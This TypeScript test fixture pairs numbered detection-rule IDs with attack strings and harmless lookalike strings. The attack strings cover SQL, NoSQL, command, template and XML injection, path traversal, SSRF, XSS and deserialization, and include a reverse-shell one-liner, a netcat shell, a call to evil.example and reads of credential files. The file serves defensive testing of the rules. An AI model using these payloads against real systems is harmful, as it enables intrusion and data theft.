/** For each rule that reads values: what it must find, and what looks alike and is ordinary; only for tests. */

/** Values of a JSON field. `ordinary` must not match the rule, whatever others say. */
interface Example {
  readonly id: number;
  readonly attacks: readonly string[];
  readonly ordinary: readonly string[];
}

const row = (id: number, attacks: readonly string[], ordinary: readonly string[]): Example => ({
  id,
  attacks,
  ordinary,
});

const PROTOCOL: readonly Example[] = [
  row(9501130, ["http://abc.oastify.com/x", "w00tw00t.at.blackhats"], ["a coast in spring"]),
  row(9501170, ["a\u0000b", "a%00b"], ["100%", "a b"]),
  row(
    9501180,
    ["/%0d%0aSet-Cookie:a=b", "x%0aLocation:%20http://evil.example", "%250d%250aX-Own: 1"],
    ["Subject: hi\r\nLocation: Berlin", "50%0ff"],
  ),
  row(
    9501190,
    ["x\r\nSet-Cookie: a=b", "x\nHTTP/1.1 200 OK", "\r\nGET /admin HTTP/1.1"],
    ["line\nLocation: room 5", "we set cookies: three"],
  ),
  row(9501200, ["嘊嘍Location: x"], ["你好"]),
];

const SQL: readonly Example[] = [
  row(9510010, ["' or 1=1 --", "x' and 'a'='a"], ["O'Brien", "the boys' and girls' rooms"]),
  row(
    9510020,
    [
      "1 union select 1,2",
      "1/**/UNION/**/ALL/**/SELECT/**/null",
      "x' union distinct select @@version",
    ],
    ["the trade union selected delegates", "the union select committee met"],
  ),
  row(
    9510030,
    ["1 and sleep(5)", "pg_sleep(10)", "1;select benchmark(5000000,md5(1))", "if(1=1,sleep(3),0)"],
    ["I sleep (8 hours) a night", "time.sleep(5)", "a benchmark (2024)"],
  ),
  row(9510040, ["';waitfor delay '0:0:5'--"], ["wait for the delay to end"]),
  row(9510050, ["table from information_schema.tables", "exec xp_cmdshell"], ["database schema"]),
  row(9510060, ["1 into outfile '/tmp/x'", "load data local infile 'x'"], ["go into the file"]),
  row(
    9510070,
    ["x and 1=1", "1 or 2 = 2", "where 1<>2", "having 1=convert(int,1)"],
    ["and 3 more = better", "2 + 2 = 4 and 3 + 3 = 6", "a or b"],
  ),
  row(
    9510075,
    ["or x=x", "' and a='b'", "1 like 1", "or name like char(37);"],
    ["or x = y is true", "and so on", "3 like 4 of them"],
  ),
  row(9510080, ["a || 1==1", "x && '1'='1"], ["a || b == c", "1 && 2"]),
  row(
    9510090,
    ["x' or true--", "' and name like 'a%'", '" or ""="', "') or user is not null"],
    ['"red" and blue', "the boys' and girls' rooms", 'color == "red" and price > 10'],
  ),
  row(9510100, ["admin'--", "admin' #", "1')/*"], ['"C#"', "it's -- fine"]),
  row(9510110, ["a'||(select 1)", "x'-sleep(3)", "'=''"], ["'*'", "a'-b"]),
  row(
    9510120,
    [
      "1; drop table users",
      "x'; insert into users values (1)",
      "; exec xp_dirtree 'a'",
      "update users set a=1",
    ],
    ["please; drop tables off at noon", "; update the set", "create table of contents"],
  ),
  row(9510130, ["select version()", "select session_user;", "SELECT @@hostname"], ["select user"]),
  row(
    9510140,
    ["1 and (select count(*) from users)", "id=(select 1)", "x in (select a from b)"],
    ["(select one or more)", "menu (select size)"],
  ),
  row(9510150, ["char(65)+char(66)", "CHR(113)||CHR(106)"], ["char(10)", "chr (113)"]),
  row(
    9510160,
    ["substring(@@version,1,1)", "hex(user())", "concat(0x7e,1)"],
    ["length(5)", "concat(a,b)"],
  ),
  row(9510170, ["1 order by 10--", "x group by 2 #"], ["order by 5 pm", "Order by 12"]),
  row(9510180, ["1' order by 3", "x) group by a--"], ["(a) order by name"]),
  row(9510190, ["/*!50000union*/", "/*! select 1 */"], ["/*! normalize.css v8 */"]),
  row(9510200, ["1 and ascii(substr(a,1,1))>64", "x or exists(a) in (1)"], ["and mid (of March)"]),
  row(9510510, ["SELECT name FROM users", "delete from orders"], ["select a size"]),
  row(9510520, ["x' or", "a'; b"], ["it's fine"]),
  row(9510530, ["case when 1", "limit 1,2"], ["a limit of 5"]),
];

const QUERY: readonly Example[] = [
  row(
    9511020,
    ["{ $ne: 1 }", "[$gt]=", "', $or: [ {} ]", "true, $where: '1 == 1'"],
    ["$5, $10", "{ $name }"],
  ),
  row(9511030, ["db.users.find({})", "db.dropDatabase()"], ["the db. find it", "db.config"]),
  row(
    9511040,
    ["' && this.password.match(/.*/)", "1; return(true)", "a; while(true)"],
    ["a && b", "so; return tomorrow"],
  ),
  row(9511050, ["';sleep(5000);'", "'});return true"], ["'a'; b", "let x = 'a'; return x"]),
  row(
    9511060,
    ["admin*)((|userPassword=*)", "*)(uid=*))(|(uid=*", "(&(cn=a*)"],
    ["(a)(b)", "f(x)(y)", "(see above) and (see below)"],
  ),
  row(9511070, ["*|", "*))"], ["**bold**", "*(see below)"]),
  row(
    9511080,
    ["x' or name()='username' or 'x'='y", "1 or position()=1", "a and count(/user)=1"],
    ["and count (3)", "or position 4"],
  ),
  row(9511090, ["count(//user)", "x | //*", "substring(/a,1,1)"], ["count(3)", "a // b"]),
  row(9511100, ["{__schema{types{name}}}", "query IntrospectionQuery"], ["the schema"]),
];

const COMMAND: readonly Example[] = [
  row(
    9512010,
    ["; whoami", "a && curl http://x", "| wget http://x", "$(uname)"],
    ["| curl | 7.88 |", "curl; wget"],
  ),
  row(
    9512020,
    ["; cat /etc/passwd", "& dir C:\\", "| ls -la", "&& rm -rf /tmp"],
    ["cats & dogs", "echo; cat videos"],
  ),
  row(
    9512030,
    ["x && id", "a || ps", "'; ls", "\\nid\\n"],
    ["name|id|date", "id;name;date", "the `id` field"],
  ),
  row(9512040, ["| id", "; ls", "&& pwd"], ["& identity", "| id column | name |"]),
  row(
    9512050,
    ["x\nid", "8.8.8.8\n/bin/ls -la", "a\r\ncurl evil.example"],
    ["name\nidentity\nplace", "a\nb"],
  ),
  row(
    9512060,
    ["; ping -c 3 127.0.0.1", "& net user a b /add", "| nc -e /bin/sh"],
    ["; ping me", "& net income"],
  ),
  row(9512070, ["cat /etc/passwd", "ls -l /var/www/*", "rm -rf ~/"], ["cat food", "find a way"]),
  row(9512080, ["ls -la", "uname -a"], ["ls -l and more"]),
  row(9512090, ["curl -s https://x", "wget http://x/y"], ["curl your hair", "see https://x"]),
  row(
    9512100,
    ["perl -e 'print 1'", "bash -c ls", "nc -lvvp 4444"],
    ["perl and ruby", "bash scripts"],
  ),
  row(
    9512110,
    ["cmd /c dir", "net user hacker x", "type c:\\boot.ini"],
    ["net income", "type c: or d:"],
  ),
  row(9512120, ["whoami", " ifconfig "], ["whoami is a command"]),
  row(
    9512130,
    ["/bin/sh -i", "bash -i >& /dev/tcp/1.2.3.4/80", "x /usr/bin/id;"],
    ["/bin/bash script", "/dev/null"],
  ),
  row(9512140, ["; /usr/bin/python3 -V", "/bin/ab -n 10"], ["see /bin/ab"]),
  row(
    9512150,
    ["cat$IFS/etc/passwd", "{cat,/etc/passwd}", "x | sh", "echo 1 > x.php"],
    ["a | short | b", "a > b"],
  ),
  row(
    9512160,
    ["() { :;}; /bin/id", "() { ignored; }; echo"],
    ["f() { return 1 };", "fn = () => {}"],
  ),
  row(9512170, ['<!--#exec cmd="ls"-->'], ["<!-- include -->"]),
  row(
    9512180,
    ["<?php echo 1; ?>", "<?= 1 ?>", "{php}1{/php}", '${@print("x")}'],
    ["php", "<?xml ?>", "${printer}"],
  ),
  row(
    9512190,
    ["system('whoami')", "eval($_GET[x])", "exec('cat x')", "phpinfo()"],
    ["the system (new)", "/a/.exec('b')"],
  ),
  row(
    9512200,
    ["include('/etc/x')", "fopen('http://x')", "require('php://input')"],
    ["require('fs')", "include (all)"],
  ),
  row(
    9512210,
    ["eval($foo)", "@exec('x')", "system\n('x')"],
    ['the system ("System")', "re.exec('x')"],
  ),
  row(9512220, ["$_GET['a']", "php://filter/x", "allow_url_include=1"], ["get('a')", "php"]),
  row(
    9512230,
    ["os.system('x')", "subprocess.Popen(['ls'])", "process.binding('x')"],
    ["the os. System 7", "process"],
  ),
  row(
    9512240,
    ["require('child_process')", "this.constructor.constructor('x')", "process.env.KEY"],
    ["require('fs')"],
  ),
  row(
    9512250,
    [
      "%x(ls)",
      "IO::Socket::INET",
      "IEX (New-Object Net.WebClient)",
      "-enc SQBFAFgAIAAoAE4AZQB3AA==",
    ],
    ["50%xy"],
  ),
  row(9512260, [";c''at /etc", "|wh\\oami", '$(ca"t" x)'], ["; don't", ";\\n"]),
  row(9512270, ["`id`", "x;`whoami`", "a=`cat x`"], ["the `id` field", "`ls -la` lists files"]),
  row(9512510, ["c'a't /etc/passwd"], ["cat food"]),
  row(9512520, ["a; b -c"], ["a b"]),
  row(9512530, ["`a b`", "$(x)"], ["a b"]),
  row(9512540, ["a|id"], ["a|b"]),
];

const TEMPLATE: readonly Example[] = [
  row(
    9513010,
    ["''.__class__.__mro__", "x.__subclasses__()", "__import__('os')"],
    ["__init__", "__name__"],
  ),
  row(
    9513020,
    ["{{7*7}}", "{{ config.items() }}", "{{request.__class__}}", "{{ self.x }}", "{{dump(app)}}"],
    ["{{name}}", "{{ item.reference_answer }}", "{{ first_name | title }}"],
  ),
  row(
    9513030,
    [
      "${7*7}",
      "${T(java.lang.Runtime).getRuntime()}",
      '${self.module.cache.util.os.system("id")}',
      "#{7*7}",
      "@{[system 'id']}",
    ],
    ["${name}", "#{user.name}", "$5 {x}"],
  ),
  row(
    9513040,
    ['<#assign x="a">', '"x"?new()', "<%= 7 * 7 %>", "<% system('x') %>"],
    ["<%= name %>", "is it new?"],
  ),
  row(
    9513050,
    ["{% for c in [].__class__ %}", "{% import os %}", "{$smarty.version}"],
    ["{% for m in messages %}{{ m.role }}{% endfor %}", "{% if user %}"],
  ),
  row(9513060, ["#set($x='a')", "[[${7*7}]]", "$x.class.forName"], ["#set of five", "[[link]]"]),
  row(9513070, ["{{7*7}}", "{1}+{2}", "${9*9}", "[[3*3]]"], ["{1} and {2}", "[1, 2]"]),
  row(9513510, ["{{ name }}", "${name}"], ["{name}"]),
];

const TRAVERSAL: readonly Example[] = [
  row(
    9514010,
    ["../../etc/passwd", "..\\..\\win.ini", "....//....//x", "/../x", "../.ssh/id_rsa"],
    ["../images/a.png", "wait...", "a/../b"],
  ),
  row(
    9514020,
    ["%2e%2e%2fetc", "..%2f..%2f", "%252e%252e%255c", "..%c0%afx"],
    ["50%2 off", "a%20b"],
  ),
  row(9514030, ["Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", "L2V0Yy9wYXNzd2Q="], ["iVBORw0KGgoAAAANSUhEUg=="]),
  row(
    9514040,
    [
      "/etc/hosts",
      "/proc/self/environ",
      "file:/etc/x",
      "C:\\Windows\\win.ini",
      "/var/log/apache2/x",
    ],
    ["edit /etc/hosts", "/mnt/data/a.csv"],
  ),
  row(
    9514050,
    ["/x/.htpasswd", "/a/b/php.ini", "/logs/error.log", "/wp/wp-config.php", "/.env"],
    ["the php.ini file", "/data/train.log.csv"],
  ),
  row(
    9514060,
    ["x = /etc/passwd", "a /proc/self/environ b", "~/.ssh/id_rsa"],
    ["etc. password", "/etc/passages"],
  ),
  row(9514070, ["a.php\u0000.png", "../etc/x%00.html"], ["a.php.png"]),
  row(9514510, ["../images/a.png"], ["a/b.png"]),
  row(9514520, ["/home/a/b", "C:\\x"], ["/v1/models"]),
];

const SSRF: readonly Example[] = [
  row(
    9515010,
    [
      "http://127.0.0.1:22",
      "http://localhost/x",
      "https://10.0.0.5/",
      "http:127.0.0.1",
      "http:\\\\192.168.1.1",
      "ftp://0.0.0.0",
    ],
    [
      "https://doi.org/10.1000/182",
      "https://127things.example.com",
      "https://localhost-tips.example.com/",
    ],
  ),
  row(
    9515020,
    ["http://a@127.0.0.1/", "http://a.example.com:80\\@192.168.1.1/"],
    ["mail root@localhost", "http://a@b.example.com"],
  ),
  row(
    9515030,
    ["http://db.internal/", "http://x.svc.cluster.local:80/"],
    ["https://internal.example.com", "a.local"],
  ),
  row(
    9515040,
    ["http://169.254.169.254/x", "http://metadata/computeMetadata/", "http://100.100.100.200/"],
    ["https://metadata.example.com/", "metadata: yes"],
  ),
  row(9515050, ["http://0x7f000001/", "http://127.0.0x1"], ["https://x.example.com/0x7f"]),
  row(
    9515060,
    ["http://2130706433/", "http://0177.0.0.1/", "http://127.1/".replace("127.1", "127.65537")],
    ["http://8.8.8.8/", "https://x.example.com/12345678"],
  ),
  row(9515070, ["http://a@2130706433/"], ["http://12345678@b.example.com/"]),
  row(
    9515080,
    ["http://[::1]/", "http://[::ffff:127.0.0.1]", "http://[fe80::1]"],
    ["http://[2606:4700::1111]/", "a [::b"],
  ),
  row(
    9515090,
    ["http://127.0.0.1.nip.io/", "//x.burpcollaborator.net"],
    ["https://nip.io.example.com/"],
  ),
  row(9515100, ["http://①②⑦.⓪.⓪.①", "http://１２７.0.0.1"], ["① first ② second"]),
  row(
    9515110,
    ["gopher://x:1/_a", "dict://x", "jar:http://x!/", "phar://x", "ldap://x/a"],
    ["https://x", "zip: 12345"],
  ),
  row(9515120, ["file:///etc/passwd", "file://localhost/x"], ["file: a.txt", "profile://x"]),
  row(9515130, ["x/latest/meta-data/", "/computeMetadata/v1/"], ["the latest metadata"]),
  row(9515510, ["http://8.8.8.8/", "http://intranet/"], ["https://example.com/"]),
];

const MARKUP: readonly Example[] = [
  row(9516010, ["<svg onload=alert(1)>", '"><img src=x onerror=a>'], ["<b>bold</b>", "a < b"]),
  row(9516020, ["<script>x", "</ScRiPt>", "<script/src=//x>"], ["a script", "<b>script</b>"]),
  row(
    9516030,
    ["<x onclick=a", "<img/src='x'onerror=a>", "<x%09onxxx=1"],
    ["<a href='on=1'>", "once = 1"],
  ),
  row(
    9516040,
    ['"onmouseover=a//', "' autofocus onfocus=x"],
    ['one="1" two="2"', "'on sale = yes'"],
  ),
  row(9516050, ["onload=alert(1)", " onerror = x()"], ["onboarding=complete", "online = true"]),
  row(
    9516060,
    ["javascript:alert(1)", "JaVaScRiPt://%0aalert(1)", '="vbscript:msgbox(1)'],
    ["JavaScript: The Good Parts"],
  ),
  row(
    9516070,
    ["alert(1)", "confirm`1`", "top['alert'](1)", "(alert)(1)"],
    ["alert (high)", "confirm (yes/no)"],
  ),
  row(
    9516080,
    ["document.cookie", "String.fromCharCode(88)", "location='javascript:x'"],
    ["documents and cookies"],
  ),
  row(
    9516090,
    ["<iframe src=x>", "<base href=//x>", '<meta http-equiv="refresh">'],
    ["<basement>", "<b>"],
  ),
  row(
    9516100,
    ["x srcdoc=y", "data:text/html,x", 'xlink:href="x"'],
    ["data:image/png;base64,AA", "src.doc"],
  ),
  row(
    9516110,
    ["'><img src=x>", "</title><x onload=a", "![]+[]"],
    ['<a href="x"> <i>y</i>', "![](a.png)"],
  ),
  row(
    9516120,
    ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>', "<!ENTITY x 'y'>"],
    ["<!DOCTYPE html>"],
  ),
  row(
    9516130,
    ["<![CDATA[<]]>script", '<xi:include href="x"/>', "<xsl:value-of select='x'/>"],
    ["<![CDATA[text]]>"],
  ),
  row(9516140, ['<?xml version="1.0"?><a/>'], ["xml version 1"]),
  row(9516510, ["<b>x</b>"], ["a < b"]),
];

const OBJECTS: readonly Example[] = [
  row(9517010, ["${jndi:ldap://x/a}", "${ jndi:rmi://x}"], ["${name}", "jndi is a Java API"]),
  row(9517020, ["${${::-j}ndi:x}", "${lower:j}", "${env:A:-j}"], ["${env:HOME}", "${name}"]),
  row(
    9517040,
    ["a.__proto__.b", 'x["constructor"]["prototype"]'],
    ["array.prototype.map", "the constructor"],
  ),
  row(9517050, ["rO0ABXNyABFqYXZhLnV0aWw=", "aced0005737200"], ["rO0", "aced it"]),
  row(
    9517060,
    ["java.lang.Runtime", "org.apache.commons.collections.functors.X"],
    ["java.lang.String", "java"],
  ),
  row(9517070, ["class.module.classLoader.x"], ["class module"]),
  row(9517080, ['O:8:"stdClass":1:{s:1:"a";}', 'a:1:{i:0;s:1:"x";}'], ['{"a":1}', "O: 8"]),
  row(9517090, ["cos\nsystem\n(S'id'", "cposix\nsystem\n"], ["cos\nsin\n"]),
  row(9517100, ["gASVIAAAAAAAAACMBXBvc2l4", "Y29zCnN5c3RlbQ=="], ["gASV"]),
  row(9517110, ["AAEAAAD/////AQAAAAAAAAA", "/wEPDwUKLTk2Njk3OTQ1"], ["AAEAAAD"]),
  row(9517120, ["System.Windows.Data.ObjectDataProvider"], ["System. Windows data"]),
  row(
    9517130,
    ["!!python/object/apply:os.system", "!ruby/object:Gem::Requirement", "_$$ND_FUNC$$_function"],
    ["wow! Ruby and Python", "Great!js"],
  ),
];

/** Every rule on values, at whatever level. */
export const EXAMPLES: readonly Example[] = [
  ...PROTOCOL,
  ...SQL,
  ...QUERY,
  ...COMMAND,
  ...TEMPLATE,
  ...TRAVERSAL,
  ...SSRF,
  ...MARKUP,
  ...OBJECTS,
];
